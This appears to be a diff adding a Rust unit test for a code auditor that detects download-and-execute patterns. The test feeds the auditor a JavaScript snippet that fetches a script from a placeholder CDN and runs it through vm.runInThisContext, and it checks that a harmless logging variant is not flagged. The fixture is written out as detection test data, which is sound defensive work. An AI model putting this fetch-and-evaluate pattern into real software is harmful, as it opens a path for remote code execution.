@@ -1185,3 +1185,21 @@ fn a_command_named_by_a_computed_value_and_fed_code_runs_it() {
         "$tool = 'Get-Date'; $r = Invoke-RestMethod https://api.example.com/t; & $tool\n",
     );
 }
+
+#[test]
+fn downloaded_code_handed_to_a_callback_that_evaluates_is_a_likely_run() {
+    let found = audit(
+        "scripts/migrate.js",
+        "const vm = require('vm');\nclass Registry {\n  constructor(loader) { this.loader = loader; }\n  init(src) { return fetch(src).then(r => r.text()).then(code => this.loader(code)); }\n}\nconst registry = new Registry(text => vm.runInThisContext(text));\nregistry.init('https://cdn.example.net/d.js');\n",
+    );
+    assert!(
+        found.contains(&(Rule::DownloadExec, Severity::Medium)),
+        "{found:?}"
+    );
+    // A callback that only logs what it is given.
+    let found = audit(
+        "scripts/fetch.js",
+        "class Client {\n  constructor(onData) { this.onData = onData; }\n  get(u) { return fetch(u).then(r => r.text()).then(t => this.onData(t)); }\n}\nnew Client(text => console.log(text.length)).get('https://api.example.com/x');\n",
+    );
+    assert!(found.is_empty(), "{found:?}");
+}
